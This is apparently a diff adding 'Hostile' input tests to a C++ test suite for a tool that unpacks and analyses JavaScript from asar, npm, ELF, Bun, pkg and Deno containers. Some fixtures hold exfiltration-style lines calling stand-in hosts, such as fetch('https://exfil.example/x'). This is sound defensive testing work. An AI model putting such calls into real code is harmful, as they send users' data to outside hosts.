@@ -792,6 +792,124 @@ TEST(Asar, BrokenIndexIsNoted) {
   EXPECT_TRUE(NoteContains(*u, "cannot be parsed"));
 }
 
+
+// --- hostile input (issue 16) ----------------------------------------------
+
+TEST(Hostile, JsModuleWithNulIsStillAnalysed) {
+  const std::string js = std::string("/* \0\1\2\3\4\5\6 */\n", 14) + "fetch('https://exfil.example/x');\n";
+  auto u = UnpackBytes(js, "evil.js");
+  ASSERT_TRUE(u.ok());
+  EXPECT_EQ(u->kind, "javascript");
+  ASSERT_EQ(u->modules.size(), 1u);
+  EXPECT_NE(u->modules[0].text.find("exfil.example"), std::string::npos);
+  EXPECT_TRUE(NoteContains(*u, "read as JavaScript all the same"));
+  // In an asar too.
+  auto a = UnpackBytes(Asar({{"main.js", js}}), "app.asar");
+  ASSERT_TRUE(a.ok());
+  EXPECT_NE(Find(*a, "main.js"), nullptr);
+}
+
+TEST(Hostile, ManyBadAsarEntriesGiveBoundedNotes) {
+  std::string extra;
+  for (int i = 0; i < 3000; ++i) extra += ",\"bad" + std::to_string(i) + "\":7";
+  auto u = UnpackBytes(Asar({{"a.js", "x"}}, extra), "app.asar");
+  ASSERT_TRUE(u.ok());
+  EXPECT_LE(u->notes.size(), 30u);
+  EXPECT_TRUE(NoteContains(*u, "2980 more notes like"));
+}
+
+// 300,000 bad entries gave 200,001 notes: the walk stops at the entry limit
+// with a note, and the notes of one shape are capped.
+TEST(Hostile, ThreeHundredThousandBadAsarEntriesGiveBoundedNotes) {
+  std::string extra;
+  extra.reserve(300000 * 16);
+  for (int i = 0; i < 300000; ++i) extra += ",\"b" + std::to_string(i) + "\":{\"size\":1}";
+  auto u = UnpackBytes(Asar({{"a.js", "x"}}, extra), "app.asar");
+  ASSERT_TRUE(u.ok());
+  EXPECT_EQ(u->kind, "asar");
+  EXPECT_LE(u->notes.size(), 30u) << ::testing::PrintToString(u->notes);
+  EXPECT_TRUE(NoteContains(*u, "asar index has more than 200000 entries")) << ::testing::PrintToString(u->notes);
+  EXPECT_TRUE(NoteContains(*u, "more notes like")) << ::testing::PrintToString(u->notes);
+}
+
+TEST(Hostile, DamagedElfIsNoted) {
+  std::string elf = Elf({{".text", "code"}, {".rodata", "strings here"}});
+  elf.resize(elf.size() - 40);  // cut into the section header table
+  auto u = UnpackBytes(elf, "tool");
+  ASSERT_TRUE(u.ok());
+  EXPECT_TRUE(NoteContains(*u, "damaged elf file")) << ::testing::PrintToString(u->notes);
+  auto sound = UnpackBytes(Elf({{".text", "code"}}), "tool");
+  ASSERT_TRUE(sound.ok());
+  EXPECT_FALSE(NoteContains(*sound, "damaged"));
+}
+
+// 4,096 Bun trailers pointing at one large module table ran past 600 s: the
+// readers stop at the time budget with a note (here a budget of 0 s).
+TEST(Hostile, ContainerReadersStopAtTheTimeBudget) {
+  std::vector<BunModule> many;
+  for (int i = 0; i < 2000; ++i) many.push_back({"/$bunfs/root/m" + std::to_string(i) + ".js", "x", "", "", 2, 1});
+  std::string file = Elf({{".text", RuntimeNoise()}}) + BunGraph(many, 0, 6, 32);
+  UnpackLimits limits;
+  limits.max_seconds = 0;
+  auto u = UnpackBytes(file, "agent", limits);
+  ASSERT_TRUE(u.ok());
+  EXPECT_TRUE(NoteContains(*u, "time budget")) << ::testing::PrintToString(u->notes);
+  EXPECT_LT(u->modules.size(), many.size());
+  // With the default budget the same file reads whole.
+  auto whole = UnpackBytes(file, "agent");
+  ASSERT_TRUE(whole.ok());
+  EXPECT_EQ(whole->modules.size(), many.size());
+}
+
+// Every container reader keeps to the budget: with 0 s each stops before its
+// first module, with a note.
+TEST(Hostile, EveryContainerReaderNotesTheTimeBudget) {
+  UnpackLimits limits;
+  limits.max_seconds = 0;
+  const std::string js = "fetch('https://collect.example/x');\n";
+  struct Case {
+    std::string reader, name, file;
+  };
+  std::string deno = RuntimeNoise();
+  {
+    const std::uint64_t eszip = deno.size();
+    deno += "ESZIP2.3\x01\x02file:///app/main.ts\x03" + js + js + js;
+    const std::uint64_t metadata = deno.size();
+    deno += "{\"argv\":[]}d3n0l4nd";
+    PutBe64(&deno, eszip);
+    PutBe64(&deno, metadata);
+  }
+  const std::vector<Case> cases = {
+      {"asar", "app.asar", Asar({{"main.js", js}, {"b.js", js}})},
+      {"npm-tarball", "a.tgz", Tarball({{"package/index.js", js, ""}, {"package/b.js", js, ""}})},
+      {"node-sea", "sea", Elf({{".text", RuntimeNoise()}, {".note.sea", ElfNote("NODE_SEA_BLOB", SeaBlob("m.js", js))}})},
+      {"pkg", "pkg-app", PkgFile(js, "{\"/snapshot/app/index.js\":{\"1\":[0," + std::to_string(js.size()) + "]}}", "0")},
+      {"deno", "deno-app", deno},
+  };
+  for (const Case& c : cases) {
+    auto whole = UnpackBytes(c.file, c.name);
+    ASSERT_TRUE(whole.ok()) << c.reader;
+    ASSERT_FALSE(whole->modules.empty()) << c.reader << ": " << ::testing::PrintToString(whole->notes);
+    EXPECT_FALSE(NoteContains(*whole, "time budget")) << c.reader;
+    auto u = UnpackBytes(c.file, c.name, limits);
+    ASSERT_TRUE(u.ok()) << c.reader;
+    // The readers share one budget: the note names the reader that found it used up (the first
+    // tried); the others stop too, so fewer modules come back.
+    EXPECT_TRUE(NoteContains(*u, ": the time budget of 0 s")) << c.reader << ": " << ::testing::PrintToString(u->notes);
+    EXPECT_LT(u->modules.size(), whole->modules.size()) << c.reader;
+  }
+}
+
+TEST(Hostile, RealBunTrailerAfterManyDecoysIsFound) {
+  std::string file = Elf({{".text", RuntimeNoise()}});
+  for (int i = 0; i < 5000; ++i) file += "\n---- Bun! ----\n";
+  file += BunGraph(SampleBunModules(), 0, 6, 32);
+  auto u = UnpackBytes(file, "agent");
+  ASSERT_TRUE(u.ok());
+  EXPECT_EQ(u->kind, "bun-sea");
+  EXPECT_TRUE(NoteContains(*u, "only the last 4096 were tried"));
+}
+
 // --- npm tarballs ----------------------------------------------------------
 
 TEST(NpmTarball, ReadsModulesAndNamesWhatItSkips) {
@@ -1036,7 +1154,7 @@ TEST(Directory, NodeModulesTree) {
   auto u = Unpack(d.path());
   ASSERT_TRUE(u.ok());
   EXPECT_EQ(u->kind, "directory");
-  EXPECT_EQ(u->modules.size(), 7u) << ::testing::PrintToString(u->notes);
+  EXPECT_EQ(u->modules.size(), 8u) << ::testing::PrintToString(u->notes);
   EXPECT_NE(Find(*u, d.path() + "/node_modules/dep/index.cjs"), nullptr);
   EXPECT_NE(Find(*u, d.path() + "/node_modules/agent-linux-x64/agent!/$bunfs/root/latin.js"), nullptr);
   EXPECT_TRUE(NoteContains(*u, "not analysed as JavaScript: " + d.path() + "/node_modules/agent-linux-x64/rg"));
@@ -1045,7 +1163,9 @@ TEST(Directory, NodeModulesTree) {
   const Module* bin = Find(*u, d.path() + "/bin/agent");
   ASSERT_NE(bin, nullptr);
   EXPECT_EQ(bin->text, "#!/usr/bin/env node\nrequire('../cli.js')\n");
-  EXPECT_TRUE(NoteContains(*u, "tool.js is binary"));
+  // Named like a module: node loads it, so it is read (issue 16).
+  EXPECT_NE(Find(*u, d.path() + "/node_modules/dep/bin/tool.js"), nullptr);
+  EXPECT_TRUE(NoteContains(*u, "tool.js holds NUL or control bytes"));
   EXPECT_TRUE(NoteContains(*u, ".png 1"));
 }
 
